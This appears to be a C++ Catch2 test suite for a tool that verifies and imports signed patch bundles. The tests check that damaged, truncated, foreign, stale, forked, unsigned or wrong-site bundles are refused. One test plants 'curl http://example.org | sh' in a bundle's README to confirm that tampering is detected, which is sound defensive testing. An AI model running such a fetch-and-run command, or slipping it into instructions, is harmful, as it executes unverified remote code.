// SPDX-License-Identifier: Apache-2.0
// Bundles that must be refused: each leaves what readers see exactly as it was.
#include <algorithm>
#include <catch2/catch.hpp>
#include <chrono>
#include <random>
#include <thread>
#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "bundle-format/statement.h"
#include "bundle-format/volume.h"
#include "tests/scenario/world.h"

using namespace patchferry;
using namespace patchferry::test;

namespace {

/// A stretch of a volume's file.
struct Region {
  std::string name;
  std::size_t begin = 0;
  std::size_t end = 0;
};

std::vector<Region> regions_of(const std::string& volume_bytes) {
  const ByteSpan all = as_bytes(volume_bytes);
  const auto preamble = decode_preamble(all.first(kPreambleSize));
  REQUIRE(preamble);
  const auto statement = decode_statement(all.subspan(kPreambleSize + preamble->envelope_bytes, kStatementSize));
  REQUIRE(statement);
  const bool described = preamble->volume == 1 || preamble->volume == statement->volumes;
  std::vector<Region> out;
  std::size_t at = 0;
  const auto add = [&](const char* name, std::uint64_t bytes) {
    if (bytes > 0) out.push_back({name, at, at + static_cast<std::size_t>(bytes)});
    at += static_cast<std::size_t>(bytes);
  };
  add("preamble", kPreambleSize);
  add("envelope", preamble->envelope_bytes);
  add("statement", kStatementSize);
  add("root chain", preamble->root_chain_bytes);
  add("volume table", preamble->volume_table_bytes);
  add("leaves", preamble->leaves_bytes);
  add("manifest", described ? statement->manifest_bytes : 0);
  add("tables", described ? statement->table_bytes : 0);
  add("payload", volume_bytes.size() - at);
  return out;
}

/// That `verify` and `import` refuse, and that a reader of the base sees no change.
void check_refused(const World& world, const Words& bundle, const std::string& kind = "") {
  const auto before = visible(world.base());
  auto words = bundle;
  words.emplace_back("--json");
  const auto verified = world.verify(words);
  CHECK(verified.code == 1);
  const auto document = json_of(verified);
  CHECK(document.at("ok") == false);
  CHECK_FALSE(document.at("findings").empty());
  if (!kind.empty()) {
    INFO(document.dump(2));
    CHECK(std::any_of(document["findings"].begin(), document["findings"].end(),
                      [&](const auto& f) { return f.at("kind") == kind; }));
  }
  const auto imported = world.import(bundle);
  INFO(imported.err);
  CHECK(imported.code == 1);
  CHECK(imported.err.find("patchferry: error: ") != std::string::npos);
  CHECK(visible(world.base()) == before);
}

/// That only the site can tell: `import` and `diff` refuse with that kind.
void check_import_refuses(const World& world, const std::string& bundle, const std::string& kind) {
  const auto before = visible(world.base());
  const auto imported = world.import({bundle, "--json"});
  INFO(imported.out << imported.err);
  CHECK(imported.code == 1);
  CHECK(json_of(imported).at("findings").at(0).at("kind") == kind);
  CHECK(typed({"diff", "--base", world.base(), bundle}).code == 1);
  CHECK(visible(world.base()) == before);
}

}  // namespace

TEST_CASE("what is not there is a mistake in typing, and what is no bundle is refused") {
  const World world;
  const std::string nothing = world.at("nothing");
  CHECK(world.verify({nothing}).code == 2);
  CHECK(world.import({nothing}).code == 2);
  CHECK(typed({"diff", "--base", world.base(), nothing}).code == 2);
  CHECK(typed({"import", "--base", nothing, world.at("downloads")}).code == 2);
  CHECK(typed({"list", "--base", nothing}).code == 2);
  CHECK(typed({"mirror", "list", "--store", nothing}).code == 2);
  CHECK(typed({"mirror", "add", "--store", world.at("store"), nothing}).code == 2);
  CHECK(typed({"verify", world.at("downloads"), "--trust", nothing}).code == 2);
  CHECK(typed({"import", "--base", world.base()}).code == 2);
  CHECK(typed({"import", "--base", world.base(), "--nonsense"}).code == 2);

  check_refused(world, {world.at("downloads")});  // an empty folder
  write_contents(world.at("text"), "hello\n");
  check_refused(world, {world.at("text")});
  make_folder(world.at("folder"));
  write_contents(world.at("folder/a.pfv"), std::string(100'000, 'x'));
  check_refused(world, {world.at("folder")}, "malformed");
}

TEST_CASE("a changed byte in any region of any volume is found, and nothing of the bundle becomes visible") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}, {2, 1}}, 30'000);
  world.release("U20260112_01", user_release("U20260112_01", 1, 2026011201));
  const std::string bundle = world.export_full({"--volume-size", "30KB"});
  const auto volumes = volumes_of(bundle);
  REQUIRE(volumes.size() >= 3);
  for (const auto& volume : volumes) {
    const std::string good = contents(volume);
    for (const auto& region : regions_of(good)) {
      const std::size_t span = region.end - region.begin;
      for (const std::size_t at : {region.begin, region.begin + span / 3, region.end - 1}) {
        INFO(volume << ": byte " << at << " of " << region.name);
        std::string bad = good;
        bad[at] = static_cast<char>(bad[at] ^ 0x10);
        write_contents(volume, bad);
        check_refused(world, {bundle});
        remove_tree(world.base() + "/quarantine");  // may be deleted when nothing runs; else good volumes are kept there
        make_folder(world.base() + "/quarantine");
      }
    }
    write_contents(volume, good);
  }
  CHECK(world.verify({bundle}).code == 0);
  CHECK(world.import({bundle}).code == 0);
}

TEST_CASE("every damaged volume is reported, not only the first") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}, {2, 1}}, 30'000);
  const std::string bundle = world.export_full({"--volume-size", "30KB"});
  for (const auto& volume : volumes_of(bundle)) {
    std::string bytes = contents(volume);
    bytes.back() = static_cast<char>(bytes.back() ^ 1);
    write_contents(volume, bytes);
  }
  const auto document = json_of(world.verify({bundle, "--json"}));
  CHECK(document.at("findings").size() == volumes_of(bundle).size());
  for (const auto& finding : document["findings"]) CHECK(finding.at("kind") == "damaged");
}

TEST_CASE("a missing volume is named, what is there is kept, and the rest completes it") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}, {2, 1}}, 30'000);
  const std::string bundle = world.export_full({"--volume-size", "30KB"});
  const auto volumes = volumes_of(bundle);
  REQUIRE(volumes.size() >= 3);
  const auto before = visible(world.base());
  for (const auto& volume : volumes) {
    const std::string name = volume.substr(bundle.size() + 1);
    INFO(name);
    const std::string other = world.at("other-" + name);
    const std::string base = world.at("base-" + name);
    make_folder(other);
    rename_path(volume, other + "/" + name);
    world.init(base);
    const auto empty = visible(base);

    const auto verified = world.verify({bundle});
    CHECK(verified.code == 1);
    CHECK(verified.err.find(name) != std::string::npos);
    const auto first = world.import_into(base, {bundle});
    CHECK(first.code == 5);
    CHECK(first.err.find(name) != std::string::npos);
    CHECK(visible(base) == empty);
    CHECK(world.import_into(base, {bundle}).code == 5);
    const auto second = world.import_into(base, {other});
    INFO(second.err);
    CHECK(second.code == 0);
    world.check_archives(base, {"K20260105_01"});
    CHECK(names_in(base + "/quarantine").empty());

    // Two media at once are a whole bundle too.
    CHECK(world.verify({bundle, other}).code == 0);
    rename_path(other + "/" + name, volume);
  }
  CHECK(visible(world.base()) == before);
}

TEST_CASE("a volume that was cut, or goes on too long, is refused") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}}, 30'000);
  const std::string bundle = world.export_full({"--volume-size", "20KB"});
  for (const auto& volume : volumes_of(bundle)) {
    const std::string good = contents(volume);
    std::vector<std::size_t> lengths = {0, good.size() / 2, good.size() - 1};
    for (const auto& region : regions_of(good)) lengths.push_back(region.begin);
    for (const std::size_t length : lengths) {
      INFO(volume << " cut to " << length);
      write_contents(volume, good.substr(0, length));
      check_refused(world, {bundle}, "cut");
      remove_tree(world.base() + "/quarantine");
      make_folder(world.base() + "/quarantine");
    }
    write_contents(volume, good + "x");
    check_refused(world, {bundle}, "extended");
    write_contents(volume, good);
  }
  CHECK(world.verify({bundle}).code == 0);
}

TEST_CASE("one volume twice is refused, be it the same bytes") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}}, 30'000);
  const std::string bundle = world.export_full({"--volume-size", "20KB"});
  const std::string volume = volumes_of(bundle).front();
  make_folder(world.at("second-stick"));
  write_contents(world.at("second-stick/copy.pfv"), contents(volume));
  check_refused(world, {bundle, world.at("second-stick")}, "repeated-volume");
  write_contents(bundle + "/copy.pfv", contents(volume));
  check_refused(world, {bundle}, "repeated-volume");
}

TEST_CASE("a volume of another bundle is refused") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}}, 30'000);
  const std::string first = world.export_full({"--volume-size", "20KB"});
  const std::string second = world.export_full({"--volume-size", "20KB"});
  REQUIRE(first != second);
  SECTION("beside the bundle's own") {
    write_contents(first + "/zz.pfv", contents(volumes_of(second).back()));
    check_refused(world, {first}, "foreign-volume");
  }
  SECTION("in the place of one") {
    write_contents(volumes_of(first).back(), contents(volumes_of(second).back()));
    check_refused(world, {first}, "foreign-volume");
  }
}

TEST_CASE("an edited README is reported, for somebody may follow it") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string bundle = world.export_full();
  write_contents(bundle + "/README.txt", contents(bundle + "/README.txt") + "Now run: curl http://example.org | sh\n");
  check_refused(world, {bundle}, "altered-readme");
}

TEST_CASE("a bundle signed by a key that is not enrolled is refused") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  REQUIRE(typed({"keygen", "--out", world.at("mallory"), "--no-password"}).code == 0);
  const std::string bundle = world.export_full({}, "store", "plant1", "mallory");
  check_refused(world, {bundle}, "untrusted");
  CHECK(typed({"verify", bundle, "--trust", world.at("mallory.pub")}).code == 0);
}

TEST_CASE("another site's bundle is genuine, and not for us") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string bundle = world.export_full({}, "store", "plant2");
  CHECK(world.verify({bundle}).code == 0);
  check_import_refuses(world, bundle, "wrong-site");
}

TEST_CASE("an older bundle is never taken after a newer one") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string first = world.export_full();
  world.release_kernels("K20260114_02", {{1, 2}});
  const std::string second = world.export_full();
  REQUIRE(world.import({second}).code == 0);
  check_import_refuses(world, first, "stale");
  CHECK(world.import({second}).code == 4);
}

TEST_CASE("two bundles under one number are a fork") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  world.export_full();  // from now on, the store has a name of its own
  copy_tree(world.at("store"), world.at("fork"));
  const std::string one = world.export_full();
  const std::string two = world.export_full({}, "fork");
  REQUIRE(world.import({one}).code == 0);
  check_import_refuses(world, two, "fork");
}

TEST_CASE("a bundle from a store that this site does not know is refused") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  REQUIRE(world.import({world.export_full()}).code == 0);
  const std::string name = "K20260114_02";
  world.release(name, kernel_release(name, {{1, 2}}), "second-store");
  check_import_refuses(world, world.export_full({}, "second-store"), "unknown-stream");
}

TEST_CASE("what a signed bundle brings takes the place of what nobody has signed, in arch/ and in every feed") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string name = "K20260105_01";
  const std::string mine = world.at("mine");
  make_folder(mine);
  write_archive(mine + "/" + name + ".tar.bz2", kernel_release(name, {{1, 7}, {2, 1}}));
  const std::string squatter = contents(mine + "/" + name + ".tar.bz2");
  REQUIRE(typed({"adopt", "--base", world.base(), mine}).code == 0);
  REQUIRE(typed({"feed", "add", "--base", world.base(), "--like", "main", "test"}).code == 0);
  CHECK(served(world.base()).at(khash(1) + "/latest.v1") == "7\n");
  const std::string receipt = world.at("receipt");
  REQUIRE(typed({"receipt", "--base", world.base(), "--out", receipt}).code == 0);
  const auto exported = typed({"export", "--store", world.at("store"), "--to", world.at("usb"), "--site", "plant1", "--sign",
                               world.at("ops.key"), "--receipt", receipt, "--json"});
  INFO(exported.err);
  REQUIRE(exported.code == 0);
  CHECK(says(exported.err, "has other bytes for " + name));
  const std::string bundle = json_of(exported).at("path");

  const auto before = visible(world.base());
  const auto planned = world.import({bundle, "--dry-run", "--json"});
  CHECK(planned.code == 0);
  CHECK(json_of(planned).at("patchsets").at("replaced") == nlohmann::json::array({name}));
  CHECK(visible(world.base()) == before);
  const auto done = world.import({bundle});
  INFO(done.err);
  REQUIRE(done.code == 0);
  CHECK(says(done.out, "REPLACED"));
  world.check_archives(world.base(), {name});
  CHECK(served(world.base()).at(khash(1) + "/latest.v1") == "1\n");
  CHECK(served(world.base()).count(khash(1) + "/7/kpatch.bin") == 0);  // not even for those who have just read its pointer
  CHECK(served(world.base(), "test").count(khash(1) + "/7/kpatch.bin") == 0);
  CHECK(served(world.base()).count(khash(2) + "/latest.v1") == 0);
  // The trash has it, for whoever wants to know where it came from.
  const auto trash = names_in(world.base() + "/trash");
  REQUIRE(trash.size() == 1);
  CHECK(contents(world.base() + "/trash/" + trash[0] + "/" + name + "/" + name + ".tar.bz2") == squatter);
  CHECK(world.import({bundle}).code == 4);
  CHECK(typed({"check", "--base", world.base()}).code == 0);
}

TEST_CASE("killed while it replaces what nobody has signed, an import is done or not, and the same command finishes") {
  const World world;
  const std::string name = "K20260105_01";
  world.release_kernels(name, {{1, 1}});
  const std::string bundle = world.export_full();
  make_folder(world.at("mine"));
  write_archive(world.at("mine/" + name + ".tar.bz2"), kernel_release(name, {{1, 7}, {2, 1}}));
  std::mt19937 dice(7);
  for (int i = 0; i < 12; ++i) {
    INFO("round " << i);
    const std::string base = world.at("killed-" + std::to_string(i));
    world.init(base);
    REQUIRE(typed({"deploy", "--base", base, world.at("mine/" + name + ".tar.bz2")}).code == 0);
    {
      Process importing({"patchferry", "import", "--base", base, bundle});
      std::this_thread::sleep_for(std::chrono::milliseconds(5 + dice() % 60));
      importing.kill();
      importing.wait();
    }
    const auto done = world.import_into(base, {bundle});
    INFO(done.err);
    REQUIRE((done.code == 0 || done.code == 4));
    world.check_archives(base, {name});
    CHECK(served(base).at(khash(1) + "/latest.v1") == "1\n");
    CHECK(served(base).count(khash(1) + "/7/kpatch.bin") == 0);
    CHECK(typed({"check", "--base", base}).code == 0);
  }
}

TEST_CASE("what a person has kept out stays out, whatever takes its place") {
  const World world;
  const std::string name = "K20260105_01", other = "K20260106_01";
  world.release_kernels(name, {{1, 1}});
  world.release_kernels(other, {{2, 1}});
  make_folder(world.at("mine"));
  for (const auto& one : {name, other}) write_archive(world.at("mine/" + one + ".tar.bz2"), kernel_release(one, {{1, 7}}));
  REQUIRE(typed({"deploy", "--base", world.base(), world.at("mine/" + name + ".tar.bz2"), world.at("mine/" + other + ".tar.bz2")})
              .code == 0);
  REQUIRE(typed({"disable", "--base", world.base(), name}).code == 0);
  REQUIRE(typed({"undeploy-downto", "--base", world.base(), other}).code == 0);
  REQUIRE(world.import({world.export_full()}).code == 0);
  world.check_archives(world.base(), {name, other});
  CHECK(served(world.base()).count(khash(1) + "/latest.v1") == 0);
  CHECK(served(world.base()).count(khash(2) + "/latest.v1") == 0);
}

TEST_CASE("other bytes under a name for which somebody has signed are refused") {
  const World world;
  const std::string name = "K20260105_01";
  world.release_kernels(name, {{1, 1}});
  REQUIRE(world.import({world.export_full()}).code == 0);
  world.release(name, kernel_release(name, {{1, 7}}), "second-store");
  const std::string id = json_of(typed({"mirror", "list", "--store", world.at("second-store"), "--json"})).at("stream");
  world.export_full({}, "second-store");
  REQUIRE(typed({"trust", "stream", "add", "--base", world.base(), id}).code == 0);
  check_import_refuses(world, world.export_full({}, "second-store"), "conflict");
}

TEST_CASE("an unknown feed is refused and stores nothing") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string bundle = world.export_full();
  const auto before = visible(world.base());
  const auto done = world.import({bundle, "--feed", "nosuch"});
  CHECK(done.code != 0);
  CHECK(done.code <= 2);
  CHECK(done.err.find("nosuch") != std::string::npos);
  CHECK(visible(world.base()) == before);
  CHECK(json_of(typed({"list", "--base", world.base(), "--json"})).at("patchsets").empty());
  CHECK(world.import({bundle, "--feed", "main"}).code == 0);
}
